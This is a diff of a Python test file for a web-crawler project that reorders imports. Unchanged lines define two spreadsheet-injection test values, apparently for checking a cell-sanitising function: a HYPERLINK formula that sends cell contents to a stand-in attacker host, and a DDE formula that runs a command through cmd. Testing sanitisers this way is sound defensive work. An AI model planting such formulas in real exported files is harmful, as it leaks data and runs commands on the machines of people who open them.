@@ -11,8 +11,8 @@ from http.server import BaseHTTPRequestHandler
 from helpers import rqcrawl, seed_local, wait_finished
 from servers import HTTPSite, reply
 
-from rqcrawl.runner import LocalWorkers
-from rqcrawl.sinks import safe_cell
+from rqcrawl.ops.sinks import safe_cell
+from rqcrawl.workers.runner import LocalWorkers
 
 TITLE = '=HYPERLINK("http://evil.example/?x="&A1)'
 DDE = "=cmd|' /C calc'!A0"
